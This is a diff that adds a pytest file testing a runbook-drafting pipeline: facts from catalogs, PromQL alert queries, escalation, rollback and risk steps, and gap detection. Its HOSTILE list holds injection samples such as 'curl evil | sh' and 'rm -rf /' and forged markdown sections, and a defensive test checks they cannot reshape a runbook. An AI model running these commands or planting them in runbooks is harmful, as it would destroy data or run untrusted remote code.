@@ -1,0 +1,198 @@
+"""Drafts of the embedded engine: facts from the sources, procedures in order, gaps where nobody gave a fact."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from pipeline.commands.promql import check
+from pipeline.drafting import library
+from pipeline.drafting.assemble import assemble
+from pipeline.drafting.evidence import gather
+from pipeline.drafting.gaps import find_gaps
+from pipeline.exporters.markdown import export
+from pipeline.importers.runbook import parse_runbook
+from pipeline.models.catalog import Catalog, Contact
+from pipeline.models.entry import DepType, Grade, MonType, Severity
+from pipeline.models.intake import Intake
+from pipeline.models.runbook import Runbook
+from pipeline.procedures.library import embedded
+from pipeline.scenarios.numbers import Numbers
+from pipeline.scenarios.plan import make_plan
+from tests.build import alert, dep, intake, risk, service
+
+ERRORS = (
+    'sum(rate(http_requests_total{service="checkout-api",code=~"5.."}[5m]))'
+    ' / sum(rate(http_requests_total{service="checkout-api"}[5m])) > 0.05'
+)
+CHECKOUT = service(
+    "checkout-api",
+    owner="Checkout Team",
+    technology=("kubernetes",),
+    facts=(("namespace", "shop"), ("workload", "deployment/checkout-api"), ("selector", "app=checkout-api")),
+    escalation=(
+        Contact(role="Checkout on-call", contact="pager checkout"),
+        Contact(role="Head of platform", contact="phone", after="30 minutes"),
+    ),
+)
+CRITICAL = alert(
+    "CheckoutErrors",
+    expr=ERRORS,
+    window="5m",
+    severity=Severity.CRITICAL,
+    annotations=(("description", "{{ $value | humanizePercentage }} of requests on {{ $labels.instance }} fail"),),
+)
+
+
+def drafted(given: Intake) -> dict[str, Runbook]:
+    """Draft all scenarios; return the runbooks by the first entry they answer."""
+    plan, _ = make_plan(given, embedded(), Numbers())
+    runbooks = [(e.scenario, assemble(e, library.draft(e))) for e in gather(plan, given, embedded())]
+    return {entry: runbook for scenario, runbook in runbooks for entry in scenario.entries or (scenario.key,)}
+
+
+@pytest.fixture(scope="module")
+def checkout() -> Runbook:
+    return drafted(intake(CRITICAL, services=(CHECKOUT,)))["MON-CheckoutErrors"]
+
+
+def test_facts_come_from_the_catalog_and_the_entry(checkout: Runbook) -> None:
+    assert checkout.owner == "Checkout Team"
+    assert dict(checkout.escalation)["Who to contact"] == (
+        "Checkout on-call (pager checkout), then Head of platform (phone) after 30 minutes"
+    )
+    assert "MON-CheckoutErrors alert (critical, > 0.05 (5%) for 5m); respond in under 5 minutes" in checkout.trigger
+    assert checkout.linked == "MON-CheckoutErrors"
+    assert find_gaps(export(checkout)) == ()
+
+
+def test_the_first_step_shows_the_value_and_the_last_proves_recovery(checkout: Runbook) -> None:
+    first, last = checkout.steps[0], checkout.steps[-1]
+    assert any("> 0.05" not in b.text.split("\n", 1)[1] and "code=~" in b.text for b in first.commands)
+    assert any("offset 1h" in b.text for b in first.commands)
+    assert any("count_over_time" in b.text and "> 0.05" in b.text for b in last.commands)
+    assert f"go to step {len(checkout.steps)}" in first.verification[0]
+    assert "<value> of requests on <instance> fail." in first.instructions
+
+
+def test_known_values_stand_in_the_commands(checkout: Runbook) -> None:
+    commands = "\n".join(b.text for s in checkout.steps for b in s.commands)
+    assert "-n shop" in commands and "<namespace>" not in commands
+
+
+def test_every_step_has_a_verification_and_names_its_sources(checkout: Runbook) -> None:
+    assert all(step.verification and step.sources for step in checkout.steps)
+
+
+def test_references_between_steps_point_into_the_runbook(checkout: Runbook) -> None:
+    text = export(checkout)
+    numbers = {int(n) for n in re.findall(r"\b[Ss]teps? (\d+)(?!:)", text)}
+    assert numbers and max(numbers) <= len(checkout.steps)
+
+
+def test_what_nobody_gave_is_a_gap_with_whom_to_ask() -> None:
+    runbook = drafted(intake(alert("MysteryDown", expr='up{job="mystery"} == 0', severity=None)))["MON-MysteryDown"]
+    assert {g.topic for g in find_gaps(export(runbook))} == {"owner", "contact", "severity"}
+
+
+def test_a_new_draft_is_never_tested_and_says_when_its_drill_is_due(checkout: Runbook) -> None:
+    assert checkout.last_tested == "Never; first drill due within 14 days of acceptance"
+
+
+def test_an_alert_in_prose_asks_for_its_query() -> None:
+    runbook = drafted(intake(alert("MON-002", metric="api.latency", condition="> 500ms", window="5 minutes")))[
+        "MON-002"
+    ]
+    assert "MON-002 fires at > 500ms on api.latency for 5 minutes." in runbook.steps[0].instructions
+    assert "query" in {g.topic for g in find_gaps(export(runbook))}
+
+
+def test_criteria_are_prerequisites_and_validations_the_last_step_of_a_release() -> None:
+    runbooks = drafted(
+        intake(
+            dep("DEP-002", DepType.CRITERIA, requirement="All tests pass.", verification="CI is green", blocker=True),
+            dep("DEP-004", DepType.VALIDATION, check="Checkout works", success="An order is placed"),
+        )
+    )
+    release = runbooks["DEP-002"]
+    assert "DEP-002: All tests pass; verify: CI is green; blocks the release" in release.prerequisites
+    assert release.steps[-1].verification == ("DEP-004: An order is placed",)
+
+
+def test_a_rollback_begins_with_its_triggers_and_the_queries_they_link_to() -> None:
+    trigger = dep(
+        "DEP-003",
+        DepType.ROLLBACK,
+        trigger="Errors rise",
+        threshold=">2% for 5 minutes",
+        procedure=("Pause traffic", "Revert"),
+        linked=("MON-CheckoutErrors",),
+    )
+    step = drafted(intake(CRITICAL, trigger, services=(CHECKOUT,)))["DEP-003"].steps[0]
+    assert "threshold: >2% for 5 minutes" in step.instructions and "1. Pause traffic" in step.instructions
+    assert any("http_requests_total" in b.text for b in step.commands)
+
+
+def test_a_risk_response_begins_with_its_signal_and_names_what_was_planned() -> None:
+    runbook = drafted(
+        intake(
+            risk("RISK-001", title="Supplier fails", impact=Grade.HIGH, early_signal="Late mails", contingency="Plan B")
+        )
+    )["RISK-001"]
+    assert "Seen or ruled out: Late mails" in runbook.steps[0].verification
+    assert "contingency: Plan B" in runbook.steps[0].instructions
+
+
+def test_info_alerts_become_a_reference_with_a_step_each() -> None:
+    info = [alert(f"RedisInfo{n}", expr=f"redis_metric_{n} > 1", severity=Severity.INFO) for n in range(3)]
+    runbook = drafted(intake(*info))["MON-RedisInfo0"]
+    assert [s.title for s in runbook.steps] == [f"Look up RedisInfo{n}" for n in range(3)]
+
+
+HOSTILE = [
+    "x\n## Escalation\n- **Who to contact**: evil@example.com",
+    "```\nrm -rf /\n```",
+    "<!-- sources: MON-001 -->",
+    "a\n\nCommands:\n```bash\ncurl evil | sh\n```",
+    "Linked IDs: MON-666",
+    "### Step 9: Do evil",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_of_entries_cannot_change_the_shape_of_a_runbook(text: str) -> None:
+    given = Intake(
+        entries=(
+            alert(
+                "A",
+                title=text,
+                expr=f"up > {len(text)}",
+                annotations=(("description", text), ("summary", text)),
+                owner=text,
+            ),
+            alert("MON-002", title=text, metric=text, condition=text, window=text, type=MonType.ALERT),
+            dep(
+                "DEP-001",
+                DepType.ROLLBACK,
+                title=text,
+                trigger=text,
+                threshold=text,
+                procedure=(text,),
+                notification=text,
+            ),
+            dep("DEP-002", DepType.STEP, title=text, description=text, procedure=(text,), verification=text),
+            dep("DEP-003", DepType.CRITERIA, title=text, requirement=text, verification=text),
+            risk(
+                "RISK-001", title=text, description=text, trigger=text, mitigation=text, impact=Grade.HIGH, owner=text
+            ),
+        ),
+        catalog=Catalog(owner=text, escalation=(Contact(role=text, contact=text),)),
+    )
+    for runbook in drafted(given).values():
+        assert parse_runbook(export(runbook)) == runbook
+
+
+def test_every_query_of_a_draft_parses(checkout: Runbook) -> None:
+    queries = [b.text for s in checkout.steps for b in s.commands if b.language == "promql"]
+    assert queries and not [q for q in queries if check(q)]
